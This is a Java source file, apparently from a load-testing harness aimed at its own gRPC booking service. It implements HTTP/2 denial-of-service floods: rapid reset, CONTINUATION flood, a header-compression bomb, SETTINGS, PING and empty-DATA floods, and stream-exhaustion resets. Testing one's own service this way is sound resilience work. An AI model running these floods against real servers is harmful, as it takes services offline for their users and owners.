package com.minhacarona.load.attack;

import com.minhacarona.v1.ReservaServiceGrpc;
import io.grpc.health.v1.HealthCheckRequest;
import io.grpc.health.v1.HealthGrpc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/** Attacks by frames, below any call. */
final class FrameAttacks {
  private static final String CHECK = HealthGrpc.getCheckMethod().getFullMethodName();
  private static final String WATCH = HealthGrpc.getWatchMethod().getFullMethodName();
  private static final String BOOKING =
      ReservaServiceGrpc.getProcessarReservaMethod().getFullMethodName();

  /** Frames that are made once and written together. */
  private static final int BATCH = 1_000;

  private static final int FOUR = 4;

  /** Less than a connection may have. */
  private static final int WATCHES = 900;

  /** 4 KB that the receiver remembers, sixteen thousand times: 64 MB out of 20 KB. */
  private static final int BOMB_TEXT = 4_000;

  private static final int BOMB_REPEATS = 16_000;

  static void emptyData(Attacker attacker) {
    attacker.flood(FrameAttacks::emptyDataOn);
  }

  static void emptyDataOnFourConnections(Attacker attacker) {
    List<Thread> threads = new ArrayList<>();
    for (int i = 0; i < FOUR; i++) {
      threads.add(Thread.ofVirtual().start(() -> emptyData(attacker)));
    }
    for (Thread thread : threads) {
      try {
        thread.join();
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
        return;
      }
    }
  }

  static void rapidReset(Attacker attacker) {
    attacker.flood(connection -> {
      while (true) {
        connection.reset(connection.headers(HeaderBlock.call(BOOKING), RawHttp2.NONE));
      }
    });
  }

  static void continuation(Attacker attacker) {
    byte[] batch = batch(RawHttp2.CONTINUATION, RawHttp2.NONE, 1, new byte[0]);
    attacker.flood(connection -> {
      byte[] block = HeaderBlock.call(CHECK).toBytes();
      connection.send(RawHttp2.HEADERS, RawHttp2.NONE, 1, block);
      while (true) {
        connection.write(batch, BATCH);
      }
    });
  }

  static void headerBomb(Attacker attacker) {
    attacker.flood(connection -> {
      while (true) {
        connection.headers(
            HeaderBlock.call(CHECK).repeated("x", "x".repeat(BOMB_TEXT), BOMB_REPEATS),
            RawHttp2.END_STREAM);
      }
    });
  }

  static void settings(Attacker attacker) {
    sameFrames(attacker, batch(RawHttp2.SETTINGS, RawHttp2.NONE, 0, new byte[0]));
  }

  static void ping(Attacker attacker) {
    sameFrames(attacker, batch(RawHttp2.PING, RawHttp2.NONE, 0, new byte[8]));
  }

  static void priorityAndUnknown(Attacker attacker) {
    byte[] priority = batch(RawHttp2.PRIORITY, RawHttp2.NONE, 3, new byte[5]);
    byte[] unknown = batch(RawHttp2.UNKNOWN, RawHttp2.NONE, 0, new byte[0]);
    attacker.flood(connection -> {
      while (true) {
        connection.write(priority, BATCH);
        connection.write(unknown, BATCH);
      }
    });
  }

  static void watchAndMadeYouReset(Attacker attacker) {
    byte[] everything = HealthCheckRequest.getDefaultInstance().toByteArray();
    try {
      for (int i = 0; i < FOUR; i++) {
        RawHttp2 connection = attacker.connect();
        for (int stream = 0; stream < WATCHES; stream++) {
          connection.call(HeaderBlock.call(WATCH), everything);
        }
        connection.flush();
      }
    } catch (IOException _) {
      // It was cut off, or has done all that it may.
    }
    attacker.flood(connection -> {
      while (true) {
        int stream = connection.headers(HeaderBlock.call(BOOKING), RawHttp2.NONE);
        connection.windowUpdate(stream, 0);
      }
    });
  }

  private static void emptyDataOn(RawHttp2 connection) throws IOException {
    int stream = connection.headers(HeaderBlock.call(CHECK), RawHttp2.NONE);
    byte[] batch = batch(RawHttp2.DATA, RawHttp2.NONE, stream, new byte[0]);
    while (true) {
      connection.write(batch, BATCH);
    }
  }

  private static void sameFrames(Attacker attacker, byte[] batch) {
    attacker.flood(connection -> {
      while (true) {
        connection.write(batch, BATCH);
      }
    });
  }

  private static byte[] batch(int type, int flags, int stream, byte[] payload) {
    byte[] frame = RawHttp2.frame(type, flags, stream, payload);
    ByteArrayOutputStream batch = new ByteArrayOutputStream(frame.length * BATCH);
    for (int i = 0; i < BATCH; i++) {
      batch.writeBytes(frame);
    }
    return batch.toByteArray();
  }

  private FrameAttacks() {}
}
